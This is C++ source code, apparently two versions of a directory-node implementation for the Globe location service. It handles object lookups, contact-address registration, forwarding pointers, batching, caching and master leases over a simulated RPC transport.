  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    address.Serialize(&w);
    return w.Take();
  }
  static Result<AddressRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    AddressRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.address, ContactAddress::Deserialize(&r));
    return request;
  }
};

struct PointerRequest {  // gls.install_ptr / gls.remove_ptr
  ObjectId oid;
  sim::DomainId child_domain = sim::kNoDomain;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    w.WriteU32(child_domain);
    return w.Take();
  }
  static Result<PointerRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    PointerRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.child_domain, r.ReadU32());
    return request;
  }
};

}  // namespace

Bytes LookupResponse::Serialize() const {
  ByteWriter w;
  w.WriteVarint(addresses.size());
  for (const auto& address : addresses) {
    address.Serialize(&w);
  }
  w.WriteU32(hops);
  w.WriteU32(static_cast<uint32_t>(found_depth));
  w.WriteU32(static_cast<uint32_t>(apex_depth));
  return w.Take();
}

Result<LookupResponse> LookupResponse::Deserialize(ByteSpan data) {
  ByteReader r(data);
  LookupResponse response;
  ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
  if (count > 100000) {
    return InvalidArgument("implausible address count");
  }
  for (uint64_t i = 0; i < count; ++i) {
    ASSIGN_OR_RETURN(ContactAddress address, ContactAddress::Deserialize(&r));
    response.addresses.push_back(address);
  }
  ASSIGN_OR_RETURN(response.hops, r.ReadU32());
  ASSIGN_OR_RETURN(uint32_t found, r.ReadU32());
  response.found_depth = static_cast<int32_t>(found);
  ASSIGN_OR_RETURN(uint32_t apex, r.ReadU32());
  response.apex_depth = static_cast<int32_t>(apex);
  return response;
}

DirectorySubnode::DirectorySubnode(sim::Transport* transport, sim::NodeId host,
                                   sim::DomainId domain, int depth, GlsOptions options,
                                   const sec::KeyRegistry* registry, uint64_t rng_seed)
    : server_(transport, host, sim::kPortGls),
      client_(std::make_unique<sim::RpcClient>(transport, host)),
      domain_(domain),
      depth_(depth),
      options_(options),
      registry_(registry),
      rng_(rng_seed) {
  server_.RegisterAsyncMethod("gls.lookup", [this](const sim::RpcContext& ctx, ByteSpan req,
                                                   sim::RpcServer::Responder respond) {
    HandleLookup(ctx, req, std::move(respond));
  });
  server_.RegisterAsyncMethod("gls.insert", [this](const sim::RpcContext& ctx, ByteSpan req,
                                                   sim::RpcServer::Responder respond) {
    HandleInsert(ctx, req, std::move(respond));
  });
  server_.RegisterAsyncMethod("gls.delete", [this](const sim::RpcContext& ctx, ByteSpan req,
                                                   sim::RpcServer::Responder respond) {
    HandleDelete(ctx, req, std::move(respond));
  });
  server_.RegisterAsyncMethod("gls.install_ptr",
                              [this](const sim::RpcContext& ctx, ByteSpan req,
                                     sim::RpcServer::Responder respond) {
                                HandleInstallPtr(ctx, req, std::move(respond));
                              });
  server_.RegisterAsyncMethod("gls.remove_ptr",
                              [this](const sim::RpcContext& ctx, ByteSpan req,
                                     sim::RpcServer::Responder respond) {
                                HandleRemovePtr(ctx, req, std::move(respond));
                              });
  server_.RegisterMethod("gls.alloc_oid",
                         [this](const sim::RpcContext&, ByteSpan) -> Result<Bytes> {
                           ByteWriter w;
                           ObjectId::Generate(&rng_).Serialize(&w);
                           return w.Take();
                         });
}

Status DirectorySubnode::CheckAuthorized(const sim::RpcContext& context) const {
  if (!options_.enforce_authorization) {
    return OkStatus();
  }
  if (registry_ == nullptr) {
    return Internal("authorization enforced but no key registry configured");
  }
  if (context.peer_principal == sec::kAnonymous || !context.integrity_protected) {
    return PermissionDenied("GLS registration requires an authenticated channel");
  }
  auto role = registry_->RoleOf(context.peer_principal);
  if (!role.ok()) {
    return PermissionDenied("unknown principal");
  }
  if (*role != sec::Role::kGdnHost && *role != sec::Role::kAdministrator) {
    return PermissionDenied("caller is not a GDN host");
  }
  return OkStatus();
}

size_t DirectorySubnode::NumAddresses(const ObjectId& oid) const {
  auto it = addresses_.find(oid);
  return it == addresses_.end() ? 0 : it->second.size();
}

size_t DirectorySubnode::NumPointers(const ObjectId& oid) const {
  auto it = pointers_.find(oid);
  return it == pointers_.end() ? 0 : it->second.size();
}

size_t DirectorySubnode::TotalEntries() const {
  size_t total = 0;
  for (const auto& [oid, addresses] : addresses_) {
    total += addresses.size();
  }
  for (const auto& [oid, pointers] : pointers_) {
    total += pointers.size();
  }
  return total;
}

void DirectorySubnode::HandleLookup(const sim::RpcContext&, ByteSpan request,
                                    sim::RpcServer::Responder respond) {
  ++stats_.lookups;
  auto parsed = LookupRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  LookupRequest req = *parsed;
  req.apex_depth = std::min(req.apex_depth, depth_);

  // Contact address here: done.
  if (auto it = addresses_.find(req.oid); it != addresses_.end() && !it->second.empty()) {
    ++stats_.found_local;
    LookupResponse response;
    response.addresses = it->second;
    response.hops = req.hops;
    response.found_depth = depth_;
    response.apex_depth = req.apex_depth;
    respond(response.Serialize());
    return;
  }

  // Forwarding pointer here: descend into one child subtree, chosen at random if
  // several replicas exist in different children (paper §3.5).
  if (auto it = pointers_.find(req.oid); it != pointers_.end() && !it->second.empty()) {
    const auto& children = it->second;
    size_t pick = static_cast<size_t>(rng_.UniformInt(children.size()));
    auto child_it = children.begin();
    std::advance(child_it, pick);
    auto ref_it = children_.find(*child_it);
    if (ref_it == children_.end() || ref_it->second.empty()) {
      respond(Internal("forwarding pointer to unknown child directory"));
      return;
    }
    ++stats_.forwards_down;
    LookupRequest forward = req;
    forward.phase = kPhaseDown;
    ++forward.hops;
    client_->Call(ref_it->second.Route(req.oid), "gls.lookup", forward.Serialize(),
                  [respond = std::move(respond)](Result<Bytes> result) {
                    respond(std::move(result));
                  });
    return;
  }

  // Nothing local. Going down this should not happen; going up we continue to the
  // parent until the root gives a definitive answer.
  if (req.phase == kPhaseDown) {
    respond(Internal("broken forwarding chain at depth " + std::to_string(depth_)));
    return;
  }
  if (parent_.empty()) {
    respond(NotFound("object not registered: " + req.oid.ToHex()));
    return;
  }
  ++stats_.forwards_up;
  LookupRequest forward = req;
  ++forward.hops;
  client_->Call(parent_.Route(req.oid), "gls.lookup", forward.Serialize(),
                [respond = std::move(respond)](Result<Bytes> result) {
                  respond(std::move(result));
                });
}

void DirectorySubnode::HandleInsert(const sim::RpcContext& context, ByteSpan request,
                                    sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = AddressRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ++stats_.inserts;
  auto& at_oid = addresses_[parsed->oid];
  if (std::find(at_oid.begin(), at_oid.end(), parsed->address) == at_oid.end()) {
    at_oid.push_back(parsed->address);
  }
  PropagatePointerUp(parsed->oid, std::move(respond));
}

void DirectorySubnode::PropagatePointerUp(const ObjectId& oid,
                                          sim::RpcServer::Responder respond) {
  if (parent_.empty()) {
    respond(Bytes{});
    return;
  }
  PointerRequest up{oid, domain_};
  client_->Call(parent_.Route(oid), "gls.install_ptr", up.Serialize(),
                [respond = std::move(respond)](Result<Bytes> result) {
                  respond(std::move(result));
                });
}

void DirectorySubnode::HandleInstallPtr(const sim::RpcContext& context, ByteSpan request,
                                        sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = PointerRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ++stats_.pointer_installs;
  bool was_new = pointers_[parsed->oid].insert(parsed->child_domain).second;
  if (!was_new || parent_.empty()) {
    // The chain above already exists (or we are the root): done.
    respond(Bytes{});
    return;
  }
  PropagatePointerUp(parsed->oid, std::move(respond));
}

void DirectorySubnode::HandleDelete(const sim::RpcContext& context, ByteSpan request,
                                    sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = AddressRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ++stats_.deletes;
  auto it = addresses_.find(parsed->oid);
  if (it == addresses_.end()) {
    respond(NotFound("no such contact address registered"));
    return;
  }
  auto& at_oid = it->second;
  auto pos = std::find(at_oid.begin(), at_oid.end(), parsed->address);
  if (pos == at_oid.end()) {
    respond(NotFound("no such contact address registered"));
    return;
  }
  at_oid.erase(pos);
  if (!at_oid.empty()) {
    respond(Bytes{});
    return;
  }
  addresses_.erase(it);
  // No addresses left here; if no pointers either, prune the chain above.
  if (NumPointers(parsed->oid) > 0) {
    respond(Bytes{});
    return;
  }
  PropagateRemoveUp(parsed->oid, std::move(respond));
}

void DirectorySubnode::PropagateRemoveUp(const ObjectId& oid,
                                         sim::RpcServer::Responder respond) {
  if (parent_.empty()) {
    respond(Bytes{});
    return;
  }
  PointerRequest up{oid, domain_};
  client_->Call(parent_.Route(oid), "gls.remove_ptr", up.Serialize(),
                [respond = std::move(respond)](Result<Bytes> result) {
                  respond(std::move(result));
                });
}

void DirectorySubnode::HandleRemovePtr(const sim::RpcContext& context, ByteSpan request,
                                       sim::RpcServer::Responder respond) {
  if (Status s = CheckAuthorized(context); !s.ok()) {
    ++stats_.denied;
    respond(s);
    return;
  }
  auto parsed = PointerRequest::Deserialize(request);
  if (!parsed.ok()) {
    respond(parsed.status());
    return;
  }
  ++stats_.pointer_removes;
  auto it = pointers_.find(parsed->oid);
  if (it != pointers_.end()) {
    it->second.erase(parsed->child_domain);
    if (it->second.empty()) {
      pointers_.erase(it);
    }
  }
  if (NumPointers(parsed->oid) == 0 && NumAddresses(parsed->oid) == 0) {
    PropagateRemoveUp(parsed->oid, std::move(respond));
    return;
  }
  respond(Bytes{});
}

Bytes DirectorySubnode::SaveState() const {
  ByteWriter w;
  w.WriteVarint(addresses_.size());
  for (const auto& [oid, at_oid] : addresses_) {
    oid.Serialize(&w);
    w.WriteVarint(at_oid.size());
    for (const auto& address : at_oid) {
      address.Serialize(&w);
    }
  }
  w.WriteVarint(pointers_.size());
  for (const auto& [oid, children] : pointers_) {
    oid.Serialize(&w);
    w.WriteVarint(children.size());
    for (sim::DomainId child : children) {
      w.WriteU32(child);
    }
  }
  return w.Take();
}

Status DirectorySubnode::RestoreState(ByteSpan data) {
  ByteReader r(data);
  std::map<ObjectId, std::vector<ContactAddress>> addresses;
  std::map<ObjectId, std::set<sim::DomainId>> pointers;

  auto num_oids = r.ReadVarint();
  if (!num_oids.ok()) {
    return num_oids.status();
  }
  for (uint64_t i = 0; i < *num_oids; ++i) {
    ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    auto& at_oid = addresses[oid];
    for (uint64_t j = 0; j < count; ++j) {
      ASSIGN_OR_RETURN(ContactAddress address, ContactAddress::Deserialize(&r));
      at_oid.push_back(address);
    }
  }
  ASSIGN_OR_RETURN(uint64_t num_ptr_oids, r.ReadVarint());
  for (uint64_t i = 0; i < num_ptr_oids; ++i) {
    ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    auto& children = pointers[oid];
    for (uint64_t j = 0; j < count; ++j) {
      ASSIGN_OR_RETURN(uint32_t child, r.ReadU32());
      children.insert(child);
    }
  }
  addresses_ = std::move(addresses);
  pointers_ = std::move(pointers);
  return OkStatus();
}

GlsClient::GlsClient(sim::Transport* transport, sim::NodeId node, DirectoryRef leaf_directory)
    : rpc_(transport, node), leaf_(std::move(leaf_directory)) {}

void GlsClient::Lookup(const ObjectId& oid, LookupCallback done) {
  LookupRequest request;
  request.oid = oid;
  request.apex_depth = 1 << 20;  // effectively +infinity; min() with depths en route
  rpc_.Call(leaf_.Route(oid), "gls.lookup", request.Serialize(),
            [done = std::move(done)](Result<Bytes> result) {
              if (!result.ok()) {
                done(result.status());
                return;
              }
              auto response = LookupResponse::Deserialize(*result);
              if (!response.ok()) {
                done(response.status());
                return;
              }
              done(LookupResult{std::move(response->addresses), response->hops,
                                response->found_depth, response->apex_depth});
            });
}

void GlsClient::Insert(const ObjectId& oid, const ContactAddress& address,
                       DoneCallback done) {
  AddressRequest request{oid, address};
  rpc_.Call(leaf_.Route(oid), "gls.insert", request.Serialize(),
            [done = std::move(done)](Result<Bytes> result) {
              done(result.ok() ? OkStatus() : result.status());
            });
}

void GlsClient::Delete(const ObjectId& oid, const ContactAddress& address,
                       DoneCallback done) {
  AddressRequest request{oid, address};
  rpc_.Call(leaf_.Route(oid), "gls.delete", request.Serialize(),
            [done = std::move(done)](Result<Bytes> result) {
              done(result.ok() ? OkStatus() : result.status());
            });
}

void GlsClient::AllocateOid(OidCallback done) {
  // Any subnode can allocate; spread the load by picking pseudo-randomly via a
  // generated id's own hash.
  rpc_.Call(leaf_.subnodes.front(), "gls.alloc_oid", {},
            [done = std::move(done)](Result<Bytes> result) {
              if (!result.ok()) {
                done(result.status());
                return;
              }
              ByteReader r(*result);
              done(ObjectId::Deserialize(&r));
            });
}

}  // namespace globe::gls
