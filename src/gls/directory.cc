#include "src/gls/directory.h"

#include <algorithm>

#include "src/util/log.h"

namespace globe::gls {

namespace {

// Caps for wire-decoded counts: malformed network input must never drive
// unbounded allocation (paper §6.1 availability requirement).
constexpr uint64_t kMaxWireAddresses = 100000;
constexpr uint64_t kMaxWireBatchItems = 100000;

struct AddressRequest {  // gls.insert / gls.delete
  ObjectId oid;
  ContactAddress address;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    address.Serialize(&w);
    return w.Take();
  }
  static Result<AddressRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    AddressRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.address, ContactAddress::Deserialize(&r));
    return request;
  }
};

struct BatchAddressRequest {  // gls.insert_batch / gls.delete_batch
  std::vector<std::pair<ObjectId, ContactAddress>> items;

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteVarint(items.size());
    for (const auto& [oid, address] : items) {
      oid.Serialize(&w);
      address.Serialize(&w);
    }
    return w.Take();
  }
  static Result<BatchAddressRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    BatchAddressRequest request;
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    if (count > kMaxWireBatchItems) {
      return InvalidArgument("implausible address batch size");
    }
    for (uint64_t i = 0; i < count; ++i) {
      ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
      ASSIGN_OR_RETURN(ContactAddress address, ContactAddress::Deserialize(&r));
      request.items.emplace_back(oid, address);
    }
    return request;
  }
};

struct PointerRequest {  // gls.install_ptr / gls.remove_ptr / gls.inval_cache
  ObjectId oid;
  sim::DomainId child_domain = sim::kNoDomain;
  // gls.inval_cache only: whether the receiving cache should quarantine the
  // OID against immediate re-caching. Deregistration chains need it (a racing
  // lookup could re-cache the address being removed); insert-driven chains
  // must NOT set it, or the freshly registered nearer replica could not be
  // cached until the quarantine lapsed. Rides as an optional trailer so
  // pre-upgrade peers interoperate (absent = quarantine, the old behaviour).
  uint8_t quarantine = 1;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    w.WriteU32(child_domain);
    w.WriteU8(quarantine);
    return w.Take();
  }
  static Result<PointerRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    PointerRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.child_domain, r.ReadU32());
    if (!r.AtEnd()) {
      ASSIGN_OR_RETURN(request.quarantine, r.ReadU8());
    }
    return request;
  }
};

struct BatchPointerRequest {  // gls.install_ptr_batch (one child domain, many OIDs)
  sim::DomainId child_domain = sim::kNoDomain;
  std::vector<ObjectId> oids;

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteU32(child_domain);
    w.WriteVarint(oids.size());
    for (const auto& oid : oids) {
      oid.Serialize(&w);
    }
    return w.Take();
  }
  static Result<BatchPointerRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    BatchPointerRequest request;
    ASSIGN_OR_RETURN(request.child_domain, r.ReadU32());
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    if (count > kMaxWireBatchItems) {
      return InvalidArgument("implausible pointer batch size");
    }
    for (uint64_t i = 0; i < count; ++i) {
      ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
      request.oids.push_back(oid);
    }
    return request;
  }
};

struct BatchLookupRequest {  // gls.lookup_batch
  std::vector<ObjectId> oids;
  uint8_t allow_cached = 0;

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteVarint(oids.size());
    for (const auto& oid : oids) {
      oid.Serialize(&w);
    }
    w.WriteU8(allow_cached);
    return w.Take();
  }
  static Result<BatchLookupRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    BatchLookupRequest request;
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    if (count > kMaxWireBatchItems) {
      return InvalidArgument("implausible lookup batch size");
    }
    for (uint64_t i = 0; i < count; ++i) {
      ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
      request.oids.push_back(oid);
    }
    ASSIGN_OR_RETURN(request.allow_cached, r.ReadU8());
    return request;
  }
};

// gls.lookup_batch response: positional, one entry per requested OID. An OK entry
// carries a serialized LookupResponse; a failed one its status.
struct BatchLookupResponse {
  std::vector<Result<Bytes>> items;

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteVarint(items.size());
    for (const auto& item : items) {
      if (item.ok()) {
        w.WriteU8(0);
        w.WriteLengthPrefixed(*item);
      } else {
        w.WriteU8(static_cast<uint8_t>(item.status().code()));
        w.WriteString(item.status().message());
      }
    }
    return w.Take();
  }
  static Result<BatchLookupResponse> Deserialize(ByteSpan data) {
    ByteReader r(data);
    BatchLookupResponse response;
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    if (count > kMaxWireBatchItems) {
      return InvalidArgument("implausible lookup batch size");
    }
    for (uint64_t i = 0; i < count; ++i) {
      ASSIGN_OR_RETURN(uint8_t code, r.ReadU8());
      if (code == 0) {
        // The batch response owns its items (callers deserialize them after
        // the wire buffer is gone): ownership boundary, copied explicitly.
        ASSIGN_OR_RETURN(ByteSpan payload, r.ReadLengthPrefixedView());
        response.items.emplace_back(ToBytes(payload));
      } else {
        if (code > static_cast<uint8_t>(StatusCode::kDataLoss)) {
          return InvalidArgument("malformed lookup batch response");
        }
        ASSIGN_OR_RETURN(std::string_view message, r.ReadStringView());
        response.items.emplace_back(
            Status(static_cast<StatusCode>(code), std::string(message)));
      }
    }
    return response;
  }
};

struct OidMessage {  // gls.alloc_oid response
  ObjectId oid;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    return w.Take();
  }
  static Result<OidMessage> Deserialize(ByteSpan data) {
    ByteReader r(data);
    OidMessage message;
    ASSIGN_OR_RETURN(message.oid, ObjectId::Deserialize(&r));
    return message;
  }
};

}  // namespace

// gls.lookup wire format; the apex default is effectively +infinity, min()'d with
// the depths en route.
struct LookupWireRequest {
  ObjectId oid;
  uint32_t hops = 0;
  uint8_t phase = 0;  // DirectorySubnode::kPhaseUp / kPhaseDown
  int32_t apex_depth = 1 << 20;
  uint8_t allow_cached = 0;

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    w.WriteU32(hops);
    w.WriteU8(phase);
    w.WriteU32(static_cast<uint32_t>(apex_depth));
    w.WriteU8(allow_cached);
    return w.Take();
  }
  static Result<LookupWireRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    LookupWireRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.hops, r.ReadU32());
    ASSIGN_OR_RETURN(request.phase, r.ReadU8());
    ASSIGN_OR_RETURN(uint32_t apex, r.ReadU32());
    request.apex_depth = static_cast<int32_t>(apex);
    ASSIGN_OR_RETURN(request.allow_cached, r.ReadU8());
    return request;
  }
};

// gls.claim_master / gls.renew_lease wire formats: one conditional ownership
// update (or lease extension) racing towards the OID's root home subnode.
struct ClaimWireRequest {
  ObjectId oid;
  ContactAddress claimant;
  uint64_t known_epoch = 0;
  uint64_t version = 0;         // claimant's applied write version (the floor)
  uint64_t lease_duration = 0;  // microseconds of ownership per grant/renewal
  uint8_t strict_floor = 0;     // quorum mode: monotone floor, no incumbent
                                // exemption (see MasterClaim::strict_floor)

  Bytes Serialize() const {
    ByteWriter w;
    oid.Serialize(&w);
    claimant.Serialize(&w);
    w.WriteU64(known_epoch);
    w.WriteU64(version);
    w.WriteU64(lease_duration);
    w.WriteU8(strict_floor);
    return w.Take();
  }
  static Result<ClaimWireRequest> Deserialize(ByteSpan data) {
    ByteReader r(data);
    ClaimWireRequest request;
    ASSIGN_OR_RETURN(request.oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(request.claimant, ContactAddress::Deserialize(&r));
    ASSIGN_OR_RETURN(request.known_epoch, r.ReadU64());
    ASSIGN_OR_RETURN(request.version, r.ReadU64());
    ASSIGN_OR_RETURN(request.lease_duration, r.ReadU64());
    ASSIGN_OR_RETURN(request.strict_floor, r.ReadU8());
    return request;
  }
};

struct ClaimWireResponse {
  uint8_t granted = 0;
  uint64_t epoch = 0;
  ContactAddress master;
  uint64_t version_floor = 0;  // the record's acked-write floor at answer time

  Bytes Serialize() const {
    ByteWriter w;
    w.WriteU8(granted);
    w.WriteU64(epoch);
    master.Serialize(&w);
    w.WriteU64(version_floor);
    return w.Take();
  }
  static Result<ClaimWireResponse> Deserialize(ByteSpan data) {
    ByteReader r(data);
    ClaimWireResponse response;
    ASSIGN_OR_RETURN(response.granted, r.ReadU8());
    ASSIGN_OR_RETURN(response.epoch, r.ReadU64());
    ASSIGN_OR_RETURN(response.master, ContactAddress::Deserialize(&r));
    ASSIGN_OR_RETURN(response.version_floor, r.ReadU64());
    return response;
  }
};

namespace {

// The typed method table: one definition per wire method, shared by servers
// (Register*) and clients (Call) so the two sides cannot drift apart. Every
// mutation is non-idempotent — a duplicate delivery (a retry whose response was
// lost) must neither re-run the coherence chains nor turn a succeeded delete
// into NotFound, and a repeated alloc_oid must hand back the same OID. Lookups
// and cache invalidations are safely repeatable and skip the dedup table.
const sim::TypedMethod<LookupWireRequest, LookupResponse> kGlsLookup{"gls.lookup"};
const sim::TypedMethod<BatchLookupRequest, BatchLookupResponse> kGlsLookupBatch{
    "gls.lookup_batch"};
const sim::TypedMethod<LookupWireRequest, LookupResponse> kGlsLookupAll{
    "gls.lookup_all"};
const sim::TypedMethod<AddressRequest, sim::EmptyMessage> kGlsInsert{
    "gls.insert", sim::kNonIdempotent};
const sim::TypedMethod<BatchAddressRequest, sim::EmptyMessage> kGlsInsertBatch{
    "gls.insert_batch", sim::kNonIdempotent};
const sim::TypedMethod<AddressRequest, sim::EmptyMessage> kGlsDelete{
    "gls.delete", sim::kNonIdempotent};
const sim::TypedMethod<BatchAddressRequest, sim::EmptyMessage> kGlsDeleteBatch{
    "gls.delete_batch", sim::kNonIdempotent};
const sim::TypedMethod<PointerRequest, sim::EmptyMessage> kGlsInstallPtr{
    "gls.install_ptr", sim::kNonIdempotent};
const sim::TypedMethod<BatchPointerRequest, sim::EmptyMessage> kGlsInstallPtrBatch{
    "gls.install_ptr_batch", sim::kNonIdempotent};
const sim::TypedMethod<PointerRequest, sim::EmptyMessage> kGlsRemovePtr{
    "gls.remove_ptr", sim::kNonIdempotent};
const sim::TypedMethod<PointerRequest, sim::EmptyMessage> kGlsInvalCache{
    "gls.inval_cache"};
// Deposed-master cleanup: removes one exact (oid, address) pair wherever the
// registration subtree still holds it. Idempotent by construction — a missing
// address is success — so duplicates skip the dedup table like invalidations.
const sim::TypedMethod<AddressRequest, sim::EmptyMessage> kGlsScrubAddress{
    "gls.scrub_address"};
const sim::TypedMethod<sim::EmptyMessage, OidMessage> kGlsAllocOid{
    "gls.alloc_oid", sim::kNonIdempotent};
// A duplicate-delivered claim must replay the first arbitration instead of
// granting a second epoch; renewals only refresh a timestamp and skip the table.
const sim::TypedMethod<ClaimWireRequest, ClaimWireResponse> kGlsClaimMaster{
    "gls.claim_master", sim::kNonIdempotent};
const sim::TypedMethod<ClaimWireRequest, ClaimWireResponse> kGlsRenewLease{
    "gls.renew_lease"};

using EmptyCallback = std::function<void(Result<sim::EmptyMessage>)>;

// Joins `n` typed-empty completions into one response carrying the first error.
EmptyCallback JoinEmpty(size_t n, EmptyCallback respond) {
  struct JoinState {
    size_t remaining;
    Status first_error = OkStatus();
    EmptyCallback respond;
  };
  auto state = std::make_shared<JoinState>();
  state->remaining = n;
  state->respond = std::move(respond);
  return [state](Result<sim::EmptyMessage> result) {
    if (!result.ok() && state->first_error.ok()) {
      state->first_error = result.status();
    }
    if (--state->remaining > 0) {
      return;
    }
    if (state->first_error.ok()) {
      state->respond(sim::EmptyMessage{});
    } else {
      state->respond(state->first_error);
    }
  };
}

Result<LookupResult> ParseLookupResult(ByteSpan payload) {
  auto response = LookupResponse::Deserialize(payload);
  if (!response.ok()) {
    return response.status();
  }
  return LookupResult{std::move(response->addresses), response->hops,
                      response->found_depth, response->apex_depth,
                      response->from_cache != 0};
}

}  // namespace

Bytes LookupResponse::Serialize() const {
  ByteWriter w;
  w.WriteVarint(addresses.size());
  for (const auto& address : addresses) {
    address.Serialize(&w);
  }
  w.WriteU32(hops);
  w.WriteU32(static_cast<uint32_t>(found_depth));
  w.WriteU32(static_cast<uint32_t>(apex_depth));
  w.WriteU8(from_cache);
  return w.Take();
}

Result<LookupResponse> LookupResponse::Deserialize(ByteSpan data) {
  ByteReader r(data);
  LookupResponse response;
  ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
  if (count > kMaxWireAddresses) {
    return InvalidArgument("implausible address count");
  }
  for (uint64_t i = 0; i < count; ++i) {
    ASSIGN_OR_RETURN(ContactAddress address, ContactAddress::Deserialize(&r));
    response.addresses.push_back(address);
  }
  ASSIGN_OR_RETURN(response.hops, r.ReadU32());
  ASSIGN_OR_RETURN(uint32_t found, r.ReadU32());
  response.found_depth = static_cast<int32_t>(found);
  ASSIGN_OR_RETURN(uint32_t apex, r.ReadU32());
  response.apex_depth = static_cast<int32_t>(apex);
  ASSIGN_OR_RETURN(response.from_cache, r.ReadU8());
  return response;
}

// ---------------------------------------------------------------- DirectoryRef

size_t DirectoryRef::AlternateIndex(const ObjectId& oid) const {
  assert(!subnodes.empty() && "DirectoryRef::AlternateIndex on an empty ref");
  if (subnodes.size() < 2) {
    return 0;
  }
  size_t home = SubnodeIndex(oid);
  // An independent slice of the same hash keeps the pick deterministic per OID
  // while spreading different hot OIDs over different (home, alternate) pairs.
  size_t offset = 1 + (oid.Hash() >> 20) % (subnodes.size() - 1);
  return (home + offset) % subnodes.size();
}

Result<sim::Endpoint> DirectoryRef::TryRoute(const ObjectId& oid,
                                             const sim::Channel& channel,
                                             RouteMode mode) const {
  if (subnodes.empty()) {
    return FailedPrecondition("DirectoryRef has no subnodes to route to");
  }
  size_t home = SubnodeIndex(oid);
  if (mode == RouteMode::kHashOnly || subnodes.size() < 2) {
    return subnodes[home];
  }
  size_t alternate = AlternateIndex(oid);
  // Ties go to the home subnode: it holds the authoritative state, so the
  // alternate's extra sideways hop is only worth paying under observed load.
  if (sim::LessLoaded(channel.PeerLoad(subnodes[alternate]),
                      channel.PeerLoad(subnodes[home]))) {
    return subnodes[alternate];
  }
  return subnodes[home];
}

// ------------------------------------------------------------ DirectorySubnode

DirectorySubnode::DirectorySubnode(sim::Transport* transport, sim::NodeId host,
                                   sim::DomainId domain, int depth, GlsOptions options,
                                   const sec::KeyRegistry* registry, uint64_t rng_seed)
    : server_(transport, host, sim::kPortGls),
      client_(std::make_unique<sim::Channel>(transport, host)),
      clock_(transport->clock()),
      domain_(domain),
      depth_(depth),
      options_(options),
      registry_(registry),
      rng_(rng_seed),
      store_(options.store_capacity),
      cache_(options.cache_ttl, options.cache_max_entries,
             options.cache_negative_ttl) {
  server_.set_service_time(options_.service_time);
  server_.set_worker_pool_width(
      static_cast<size_t>(std::max(options_.service_workers, 1)));

  kGlsLookup.RegisterAsync(&server_, [this](const sim::RpcContext&,
                                            LookupWireRequest request,
                                            LookupResponder respond) {
    ++stats_.lookups;
    ResolveLookup(std::move(request), std::move(respond));
  });

  kGlsLookupAll.RegisterAsync(&server_, [this](const sim::RpcContext&,
                                               LookupWireRequest request,
                                               LookupResponder respond) {
    ++stats_.lookup_alls;
    ResolveLookupAll(std::move(request), std::move(respond));
  });

  kGlsLookupBatch.RegisterAsync(
      &server_, [this](const sim::RpcContext&, BatchLookupRequest request,
                       sim::TypedMethod<BatchLookupRequest,
                                        BatchLookupResponse>::AsyncResponder respond) {
        ++stats_.batch_lookups;
        if (request.oids.empty()) {
          respond(BatchLookupResponse{});
          return;
        }
        struct BatchState {
          BatchLookupResponse response;
          size_t remaining = 0;
          std::function<void(Result<BatchLookupResponse>)> respond;
        };
        auto state = std::make_shared<BatchState>();
        state->response.items.assign(request.oids.size(),
                                     Result<Bytes>(Unavailable("pending")));
        state->remaining = request.oids.size();
        state->respond = std::move(respond);
        for (size_t i = 0; i < request.oids.size(); ++i) {
          ++stats_.lookups;
          LookupWireRequest item;
          item.oid = request.oids[i];
          item.allow_cached = request.allow_cached;
